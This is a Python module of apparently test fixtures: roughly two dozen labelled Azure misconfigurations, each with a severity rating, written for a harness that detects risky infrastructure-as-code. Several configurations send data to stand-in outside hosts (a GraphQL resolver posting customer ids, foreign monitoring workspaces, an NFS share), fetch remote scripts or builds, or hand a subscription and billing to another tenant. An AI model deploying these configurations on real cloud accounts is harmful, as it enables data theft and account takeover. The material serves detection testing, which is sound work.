"""Attacks on Azure, of all concerns (2026-11-29, twelfth set, written blind): seldom types, bare names and texts.

Properties by pulumi-azure-native 3.29.0. Read on 2026-11-29: PowerShell Gallery Microsoft.AVS.Management 5.1.16
(New-LDAPSIdentitySource), Pulumi Registry (subscription.SubscriptionTarDirectory), Microsoft Learn (API Management,
"get-authorization-context" and authorizations/accessPolicies; RaiMonitorConfig); all other pages as known.
"""

from ..blind import GROUP, HERE, OURS, RG, SUB, TAGS, THEIR_TENANT, THEIRS, az
from ..harness import UNKNOWN
from ..idioms.fourth_kubernetes import AZURE_BUDGET
from . import Attack
from .cost_services import AZURE, STACK
from .tenth_azure import ESC, IDN, RES, TAKEN

STRANGER = "198.51.100.7"
STRANGER_HOST = "collector.example"
PRINCIPAL = "22222222-2222-3333-4444-555555555555"
BILLING = "00000000-0000-0000-0000-000000000003"
CENTER_ADMINISTRATOR = f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/a6333a3e-0164-44c3-b281-7a577aff287f"
RESOLVER = f"""<http-data-source><http-request><set-method>POST</set-method>
<set-url>https://graph.{STRANGER_HOST}/customer</set-url>
<set-body>@(context.GraphQL.Arguments["id"].ToString())</set-body></http-request></http-data-source>"""
HUB = "HostName=collector.azure-devices.net;SharedAccessKeyName=iothubowner;SharedAccessKey=b3BlcmF0b3I="
IDENTITY_SOURCE = {"Name": "corp", "DomainName": "corp.internal", "DomainAlias": "corp",
                   "PrimaryUrl": f"ldaps://{STRANGER}:636", "BaseDNUsers": "dc=corp,dc=internal",
                   "BaseDNGroups": "dc=corp,dc=internal", "GroupName": "vsphere-admins"}  # fmt: skip

ATTACKS = (
    Attack("the hub sends what leaves it through the cloud of a vendor", RES, (az("network:SecurityPartnerProvider", {
        **HERE, "securityPartnerProviderName": "filter", "securityProviderName": "ZScaler",
        "virtualHub": {"id": f"{OURS}.Network/virtualHubs/hub"}}),),
        "critical", "the vendor reads all traffic of the spokes (Firewall Manager, 'Security partner providers')"),
    Attack("settings of all services are a stranger's repository", ESC, (az("app:JavaComponent", {
        **RG, "environmentName": "apps", "name": "config", "properties": {
            "componentType": "SpringCloudConfig", "configurations": [
                {"propertyName": "spring.cloud.config.server.git.uri",
                 "value": "https://github.com/collector/settings.git"}]}}),),
        "critical", "the stranger sets each address and switch (Container Apps, 'Config Server for Spring')"),
    Attack("workflows load an assembly of a stranger", ESC, (az("logic:IntegrationAccountAssembly", {
        **HERE, "integrationAccountName": "b2b", "assemblyArtifactName": "rules", "properties": {
            "assemblyName": "Rules", "contentType": "application/octet-stream",
            "contentLink": {"uri": "https://collector.blob.core.windows.net/in/Rules.dll"}}}),),
        "critical", "its code sees each message that is mapped (Logic Apps, 'Add .NET assemblies for maps')"),
    Attack("an application is root of every document", ("FJ-IDN-", "FJ-ESC-112"), (az("mongocluster:User", {
        **RG, "mongoClusterName": "documents", "userName": PRINCIPAL, "properties": {
            "identityProvider": {"type": "MicrosoftEntraID", "properties": {"principalType": "servicePrincipal"}},
            "roles": [{"db": "admin", "role": "root"}]}}),),
        "critical", "it reads, changes and drops all (Azure DocumentDB, 'Microsoft Entra ID authentication')"),
    Attack("a gateway of an account has five of the largest machines", ("FJ-COST-",), (STACK, AZURE, AZURE_BUDGET,
        az("cosmosdb:Service", {
            **RG, "accountName": "chats", "serviceName": "SqlDedicatedGateway", "properties": {
                "serviceType": "SqlDedicatedGateway", "instanceSize": "Cosmos.D16s", "instanceCount": 5}})),
        "major", "tens of thousands of dirhams a month for a cache (Cosmos DB, 'Dedicated gateway', pricing)"),
    Attack("a field of a graph asks a stranger", RES, (az("apimanagement:GraphQLApiResolverPolicy", {
        **RG, "serviceName": "apim-bank", "apiId": "graph", "resolverId": "customer", "policyId": "policy",
        "format": "rawxml", "value": RESOLVER}),),
        "critical", "the stranger hears of each customer that is asked for (API Management, 'http-data-source')"),
    Attack("an identity of a stranger's tenant takes tokens of the gateway", IDN, (
        az("apimanagement:AuthorizationAccessPolicy", {
            **RG, "serviceName": "apim-bank", "authorizationProviderId": "mail", "authorizationId": "bank",
            "authorizationAccessPolicyId": PRINCIPAL, "tenantId": THEIR_TENANT, "objectId": PRINCIPAL}),),
        "critical", "it acts as the bank where the token counts (API Management, accessPolicies of authorizations)"),
    Attack("a relay takes messages in plain text", ("FJ-ENC-", "FJ-EXP-", "FJ-ESC-115"), (az("relay:WCFRelay", {
        **RG, "namespaceName": "relay-bank", "relayName": "core", "relayType": "NetTcp",
        "requiresClientAuthorization": True, "requiresTransportSecurity": False}),),
        "major", "tokens and messages cross the internet readable (Azure Relay, requiresTransportSecurity)"),
    Attack("administrators of the private cloud are whoever a stranger names", ("FJ-RES-", "FJ-IDN-", "FJ-ESC-"), (
        az("avs:ScriptExecution", {
            **RG, "privateCloudName": "avs", "scriptExecutionName": "identity", "timeout": "PT30M",
            "scriptCmdletId": f"{OURS}.AVS/privateClouds/avs/scriptPackages/Microsoft.AVS.Management@5.1.16/"
            "scriptCmdlets/New-LDAPSIdentitySource",
            "parameters": [{"name": name, "type": "Value", "value": IDENTITY_SOURCE[name]}
                           for name in IDENTITY_SOURCE],
            "hiddenParameters": [{"name": "Credential", "type": "Credential", "username": "join@corp.internal",
                                  "password": UNKNOWN}]}),),
        "critical", "his directory fills the group of cloud administrators (Azure VMware Solution, 'Run command')"),
    Attack("desktops load an application from a stranger's share", ESC, (az("desktopvirtualization:AppAttachPackage", {
        **HERE, "appAttachPackageName": "viewer", "properties": {
            "failHealthCheckOnStagingFailure": "NeedsAssistance",
            "hostPoolReferences": [f"{OURS}.DesktopVirtualization/hostPools/staff"], "image": {
                "displayName": "Viewer", "isActive": True, "packageName": "Viewer", "version": "1.0.0.0",
                "imagePath": r"\\collector.file.core.windows.net\apps\viewer.vhdx"}}}),),
        "critical", "each member of staff runs it (Azure Virtual Desktop, 'App attach', imagePath)"),
    Attack("machines of a cluster run a script when an application is added", ESC, (az("hdinsight:Application", {
        **RG, "clusterName": "hadoop", "applicationName": "hue", "tags": TAGS, "properties": {
            "applicationType": "CustomApplication", "computeProfile": {"roles": [{
                "name": "edgenode", "targetInstanceCount": 1,
                "hardwareProfile": {"vmSize": "Standard_D4as_v5"}}]},
            "installScriptActions": [{"name": "hue", "roles": ["edgenode"],
                                      "uri": "https://collector.blob.core.windows.net/scripts/hue.sh"}]}}),),
        "critical", "a stranger's commands run as root beside the lake (HDInsight, 'Install custom applications')"),
    Attack("a registry builds a stranger's repository under the bank's name", ESC, (az("containerregistry:TaskRun", {
        **RG, "location": "uaenorth", "registryName": "acrbank", "taskRunName": "portal", "runRequest": {
            "type": "DockerBuildRequest", "sourceLocation": "https://github.com/collector/portal.git#main",
            "dockerFilePath": "Dockerfile", "imageNames": ["portal:stable"], "isPushEnabled": True,
            "platform": {"os": "Linux", "architecture": "amd64"}}}),),
        "critical", "every pod of portal:stable is the stranger's (Container Registry, 'Quick tasks', sourceLocation)"),
    Attack("volumes of a cluster on premises are shares of a stranger", RES, (az("kubernetesruntime:StorageClass", {
        "resourceUri": f"{OURS}.Kubernetes/connectedClusters/edge", "storageClassName": "shared",
        "accessModes": ["ReadWriteMany"], "typeProperties": {"type": "NFS", "server": STRANGER, "share": "/in"}}),),
        "critical", f"{TAKEN} as soon as a pod writes (Azure Arc, 'Storage class', NFS)"),
    Attack("devices are handed to a hub of a stranger", ("FJ-RES-",), (az("deviceprovisioningservices:IotDpsResource", {
        **HERE, "provisioningServiceName": "dps-bank", "sku": {"name": "S1", "capacity": 1}, "properties": {
            "allocationPolicy": "Hashed", "publicNetworkAccess": "Disabled", "enableDataResidency": True,
            "iotHubs": [{"location": "uaenorth", "connectionString": HUB, "applyAllocationPolicy": True}]}}),),
        "critical", "their measurements go there, their orders come from there (IoT Hub DPS, 'Linked IoT hubs')"),
    Attack("SQL Server on a machine listens to the internet", ("FJ-EXP-", "FJ-ESC-115"), (
        az("sqlvirtualmachine:SqlVirtualMachine", {
        **HERE, "sqlVirtualMachineName": "sql-core", "sqlManagement": "Full", "sqlServerLicenseType": "AHUB",
        "virtualMachineResourceId": f"{OURS}.Compute/virtualMachines/sql-core",
        "serverConfigurationsManagementSettings": {
            "sqlConnectivityUpdateSettings": {"connectivityType": "PUBLIC", "port": 1433}}}),),
        "critical", "everybody may guess passwords (SQL Server on Azure VMs, 'SQL connectivity', Public)"),
    Attack("customers are kept in a directory in Europe", ("FJ-RES-",), (az("azureactivedirectory:CIAMTenant", {
        **RG, "resourceName": "bankcustomers", "location": "Europe", "tags": TAGS,
        "sku": {"name": "Standard", "tier": "A0"},
        "createTenantProperties": {"countryCode": "IE", "displayName": "Customers"}}),),
        "critical", "names, telephones and sign-ins lie there (Microsoft Entra External ID, 'Data residency')"),
    Attack("the subscription moves to the tenant of a stranger", IDN, (az("subscription:SubscriptionTarDirectory", {
        "subscriptionId": SUB.rpartition("/")[2], "properties": {
            "destinationTenantId": THEIR_TENANT, "destinationOwnerId": f"owner@{STRANGER_HOST}"}}),),
        "critical", "every resource is the stranger's (Azure Subscription, changeTenantRequest)"),
    Attack("a thousand seats of a vendor are bought and renewed", ("FJ-COST-",), (STACK, AZURE, AZURE_BUDGET,
        az("saas:SaasSubscriptionLevel", {
            **RG, "location": "global", "resourceName": "seats", "tags": TAGS, "properties": {
                "publisherId": "vendor", "offerId": "analytics", "skuId": "enterprise", "termId": "yearly",
                "quantity": 1000, "autoRenew": True, "paymentChannelType": "SubscriptionDelegated",
                "saasResourceName": "seats", "paymentChannelMetadata": {
                    "azureSubscriptionId": SUB.rpartition("/")[2]}}})),
        "major", "any sum, each year anew, on the invoice of Azure (Microsoft Marketplace, 'SaaS purchases')"),
    Attack("what Defender collects of machines goes to a stranger's workspace", RES, (az("security:WorkspaceSetting", {
        "workspaceSettingName": "default", "scope": SUB,
        "workspaceId": f"{THEIRS}.OperationalInsights/workspaces/collector"}),),
        "major", "events and holes of all machines are theirs (Defender for Cloud, 'Workspace settings')"),
    Attack("a migration reads the database in plain text", ("FJ-ENC-", "FJ-ESC-115"), (
        az("datamigration:DatabaseMigrationsSqlDb", {
        **RG, "sqlDbInstanceName": "sql-bank", "targetDbName": "core", "properties": {
            "kind": "SqlDb", "scope": f"{OURS}.Sql/servers/sql-bank",
            "migrationService": f"{OURS}.DataMigration/sqlMigrationServices/dms", "sourceDatabaseName": "core",
            "sourceSqlConnection": {"dataSource": "10.0.0.4", "authentication": "SqlAuthentication",
                                    "userName": "mover", "encryptConnection": False,
                                    "trustServerCertificate": True}}}),),
        "major", "rows and the password are readable (Database Migration Service, SqlConnectionInformation)"),
    Attack("what is asked of a model is kept in a stranger's account", RES, (az("cognitiveservices:Account", {
        **HERE, "accountName": "oai-bank", "kind": "OpenAI", "sku": {"name": "S0"},
        "identity": {"type": "SystemAssigned"}, "properties": {
            "customSubDomainName": "oai-bank", "disableLocalAuth": True, "publicNetworkAccess": "Disabled",
            "restrictOutboundNetworkAccess": True, "allowedFqdnList": [], "networkAcls": {"defaultAction": "Deny"},
            "raiMonitorConfig": {"adxStorageResourceId": f"{THEIRS}.Storage/storageAccounts/collector"}}}),),
        "critical", "prompts and answers are theirs (Azure OpenAI, 'Risks & Safety monitoring'; RaiMonitorConfig)"),
    Attack("an identity is administrator inside every server by a browser", ("FJ-IDN-",), (
        az("authorization:RoleAssignment", {
            "scope": GROUP, "principalId": PRINCIPAL, "principalType": "ServicePrincipal",
            "roleDefinitionId": CENTER_ADMINISTRATOR}),),
        "critical", "shells on each Windows server (Azure, role Windows Admin Center Administrator Login)"),
    Attack("passwords of a database are guessed without a brake", ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-", "FJ-RSL-117"), (
        az("dbforpostgresql:Configuration", {
            **RG, "serverName": "pg-bank", "configurationName": "connection_throttle.enable", "value": "off",
            "source": "user-override"}),),
        "minor", "thousands of guesses a minute (Azure Database for PostgreSQL, 'connection_throttle.enable')"),
    Attack("a stranger is authorized to make sources of events", ("FJ-RES-", "FJ-EXP-", "FJ-IDN-"), (
        az("eventgrid:PartnerConfiguration", {
            **RG, "location": "global", "tags": TAGS, "partnerAuthorization": {
                "defaultMaximumExpirationTimeInDays": 365, "authorizedPartnersList": [{
                    "partnerName": "Collector", "authorizationExpirationTimeInUtc": "2030-01-01T00:00:00Z",
                    "partnerRegistrationImmutableId": "33333333-2222-3333-4444-555555555555"}]}}),),
        "major", "his events start what the bank's topics start (Event Grid, 'Authorize a partner')"),
    Attack("a tenant of a stranger manages the billing account", ("FJ-IDN-", "FJ-RES-", "FJ-COST-"), (
        az("billing:AssociatedTenant", {
            "billingAccountName": f"{BILLING}:{BILLING}_2019-05-31",
            "associatedTenantName": THEIR_TENANT, "tags": TAGS, "properties": {
                "displayName": "Partner", "tenantId": THEIR_TENANT, "billingManagementState": "Active",
                "provisioningManagementState": "Active"}}),),
        "major", "his people may buy and read invoices (Cost Management, 'Associated billing tenants')"),
)  # fmt: skip
